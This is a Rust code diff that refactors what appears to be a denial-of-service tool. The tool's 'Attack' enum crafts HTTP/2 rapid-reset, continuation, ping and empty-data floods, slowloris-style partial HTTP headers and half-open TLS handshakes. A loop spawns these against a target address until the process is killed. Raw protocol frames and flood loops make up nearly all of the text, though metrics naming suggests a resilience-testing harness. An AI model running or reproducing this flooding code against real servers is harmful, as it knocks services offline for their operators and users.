@@ -3,6 +3,7 @@
 
 use std::{net::SocketAddr, time::Duration};
 
+use clap::ValueEnum as _;
 use tokio::{
     io::{AsyncReadExt as _, AsyncWriteExt as _},
     net::TcpStream,
@@ -48,46 +49,27 @@ const END_HEADERS: u8 = 4;
 const HEAD: &[u8] = b"\x83\x86\x84\x01\x03web";
 
 impl Attack {
-    pub(crate) const ALL: [Self; 6] = [
-        Self::RapidReset,
-        Self::Continuations,
-        Self::Pings,
-        Self::EmptyData,
-        Self::SlowHeads,
-        Self::HalfHandshakes,
-    ];
-
     /// As it is named on the command line and, with `_` for `-`, in metrics.
-    pub(crate) fn name(self) -> &'static str {
-        match self {
-            Self::RapidReset => "rapid-reset",
-            Self::Continuations => "continuations",
-            Self::Pings => "pings",
-            Self::EmptyData => "empty-data",
-            Self::SlowHeads => "slow-heads",
-            Self::HalfHandshakes => "half-handshakes",
-        }
+    pub(crate) fn name(self) -> String {
+        let value = self.to_possible_value().expect("no attack is hidden");
+        value.get_name().to_owned()
     }
 
-    /// What is sent first, and whether a flood follows.
-    fn opening(self) -> (Vec<u8>, bool) {
-        match self {
-            Self::SlowHeads => (b"GET / HTTP/1.1\r\nhost: web\r\n".to_vec(), false),
-            Self::HalfHandshakes => (vec![22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3], false),
-            Self::Continuations => (
-                [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(HEADERS, 0, 1, HEAD)].concat(),
-                true,
-            ),
-            _ => (
-                [
-                    PREFACE,
-                    &frame(SETTINGS, 0, 0, &[]),
-                    &frame(HEADERS, END_HEADERS, 1, HEAD),
-                ]
-                .concat(),
-                true,
-            ),
-        }
+    /// Whether frames follow without end.
+    fn floods(self) -> bool {
+        !matches!(self, Self::SlowHeads | Self::HalfHandshakes)
+    }
+
+    /// What is sent first.
+    fn opening(self) -> Vec<u8> {
+        let head_flags = match self {
+            Self::SlowHeads => return b"GET / HTTP/1.1\r\nhost: web\r\n".to_vec(),
+            Self::HalfHandshakes => return vec![22, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3],
+            Self::Continuations => 0,
+            Self::RapidReset | Self::Pings | Self::EmptyData => END_HEADERS,
+        };
+        let settings = frame(SETTINGS, 0, 0, &[]);
+        [PREFACE, &settings, &frame(HEADERS, head_flags, 1, HEAD)].concat()
     }
 
     fn chunk(self, number: u32) -> Vec<u8> {
@@ -116,8 +98,8 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
 
 /// Attacks until the process is killed.
 pub(super) async fn run(address: SocketAddr, attack: Attack) -> anyhow::Result<()> {
-    let (_, floods) = attack.opening();
-    let mut tick = interval(Duration::from_secs(1) / if floods { FLOODS } else { WAITING });
+    let per_second = if attack.floods() { FLOODS } else { WAITING };
+    let mut tick = interval(Duration::from_secs(1) / per_second);
     loop {
         tick.tick().await;
         tokio::spawn(timeout(LIMIT, one(address, attack)));
@@ -131,10 +113,11 @@ async fn one(address: SocketAddr, attack: Attack) {
     };
     let (mut read, mut write) = tcp.into_split();
     let sending = async {
-        let (opening, floods) = attack.opening();
-        write.write_all(&opening).await?;
-        for number in 0..if floods { CHUNKS_MAX } else { 0 } {
-            write.write_all(&attack.chunk(number)).await?;
+        write.write_all(&attack.opening()).await?;
+        if attack.floods() {
+            for number in 0..CHUNKS_MAX {
+                write.write_all(&attack.chunk(number)).await?;
+            }
         }
         std::future::pending::<std::io::Result<()>>().await
     };
